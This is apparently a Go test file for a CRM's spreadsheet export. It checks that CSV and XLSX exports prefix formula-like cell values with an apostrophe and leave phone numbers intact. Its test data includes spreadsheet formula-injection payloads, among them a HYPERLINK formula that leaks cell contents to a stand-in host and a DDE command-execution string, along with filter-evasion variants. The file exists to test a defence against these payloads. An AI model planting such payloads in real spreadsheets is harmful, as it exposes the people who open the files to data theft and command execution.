package sheets_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/fieldcrm/fieldcrm/internal/crm"
	"github.com/fieldcrm/fieldcrm/internal/crm/sheets"
	"github.com/fieldcrm/fieldcrm/models"
)

// listed serves the given customers, as crm's Customers would.
type listed []models.Customer

func (l listed) CheckList(context.Context, models.Actor, crm.ListOptions) error { return nil }

func (l listed) Each(_ context.Context, _ models.Actor, _ crm.ListOptions, fn func(models.Customer) error) error {
	for _, c := range l {
		if err := fn(c); err != nil {
			return err
		}
	}
	return nil
}

// formulas are values a spreadsheet would run, each with the cell it must
// become: an apostrophe first, whatever the column.
var formulas = map[string]string{
	`=HYPERLINK("http://evil.test/?leak="&A1,"Click")`: `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
	`+cmd|' /C calc'!A0`: `'+cmd|' /C calc'!A0`,
	`+1+1`:               `'+1+1`,
	`+1*2`:               `'+1*2`,
	`-2+3`:               `'-2+3`,
	`@SUM(1,2)`:          `'@SUM(1,2)`,
	"\t=1+1":             "'\t=1+1",
	"\r=1+1":             "'\r=1+1",
	`  =1+1`:             `'  =1+1`,
	"\u3000=1+1":         "'\u3000=1+1",
	`＝1+1`:               `'＝1+1`,
	`＋1+1`:               `'＋1+1`,
}

// literals stay as they are: phone numbers, masked phones, signed numbers.
var literals = []string{"+8613800138000", "+8613800138000; +8613900139000", "+86138****8000", "-20", "3.5", "王小明", "a=b", ""}

func exportCells(t *testing.T, format string, role models.Role, c models.Customer, fields []models.CustomFieldDef) [][]string {
	t.Helper()
	exp, err := sheets.Start(context.Background(), listed{c}, sheets.Request{Actor: models.Actor{Role: role}, Format: format, Lang: "en", CustomFields: fields})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := exp.Write(context.Background(), &out); err != nil {
		t.Fatal(err)
	}
	if format == sheets.CSV {
		rows, err := csv.NewReader(bytes.NewReader(out.Bytes()[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestExportDefusesFormulasInEveryColumnAndKeepsPhoneNumbers(t *testing.T) {
	fields := []models.CustomFieldDef{{Key: "note", Label: "Note", Type: models.FieldText}}
	for _, format := range []string{sheets.CSV, sheets.XLSX} {
		for value, want := range formulas {
			// The same value in a free-text, a phone, a list and a custom column.
			c := models.Customer{Number: "C1"}
			c.Name, c.CompanyName, c.Address.City = value, value, value
			c.Phones = []models.Phone{{Number: value}}
			c.Tags = []string{value}
			c.CustomFields = map[string]any{"note": value}
			rows := exportCells(t, format, models.RoleAdmin, c, fields)
			for _, header := range []string{"Name", "Company", "City", "Mobile", "Tags", "Note"} {
				if got := cellOf(t, rows, header); got != want {
					t.Errorf("%s %s: %q exported as %q, want %q", format, header, value, got, want)
				}
			}
		}
		for _, value := range literals {
			c := models.Customer{Number: "C1"}
			c.Name, c.Phones = value, []models.Phone{{Number: value}}
			rows := exportCells(t, format, models.RoleAdmin, c, nil)
			if got := cellOf(t, rows, "Name"); got != value {
				t.Errorf("%s: %q exported as %q", format, value, got)
			}
		}
		// A rep sees phones masked; the masked form stays readable too.
		c := models.Customer{Number: "C1"}
		c.Phones = []models.Phone{{Number: "+8613800138000"}, {Number: "+8613900139000"}}
		if got := cellOf(t, exportCells(t, format, models.RoleRep, c, nil), "Mobile"); got != "+86138****8000; +86139****9000" {
			t.Errorf("%s: masked phones %q", format, got)
		}
	}
}

func cellOf(t *testing.T, rows [][]string, header string) string {
	t.Helper()
	for i, h := range rows[0] {
		if h == header {
			if i >= len(rows[1]) {
				return ""
			}
			return rows[1][i]
		}
	}
	t.Fatalf("no column %q in %v", header, rows[0])
	return ""
}

func TestFailuresFileDefusesFormulas(t *testing.T) {
	var failures []models.ImportFailure
	for value := range formulas {
		failures = append(failures, models.ImportFailure{ID: value, Line: 2, Column: "@手机", Value: value, Reason: value + " is not a phone number"})
	}
	failures = append(failures, models.ImportFailure{ID: "phone", Line: 3, Column: "手机", Value: "+8613800138000", Reason: "duplicate"})
	var out bytes.Buffer
	err := sheets.WriteFailures(&out, failures, func(string) ([]models.ImportFailure, error) { return nil, nil },
		func(int) ([]models.SkippedRow, int, error) { return nil, 0, nil })
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1 : len(rows)-1] {
		if row[1] != "'@手机" || row[2] != formulas[strings.TrimPrefix(row[2], "'")] || !strings.HasPrefix(row[3], "'") {
			t.Errorf("failure row %q was not defused", row)
		}
	}
	if last := rows[len(rows)-1]; last[2] != "+8613800138000" {
		t.Errorf("a phone number in the failures file became %q", last[2])
	}
}
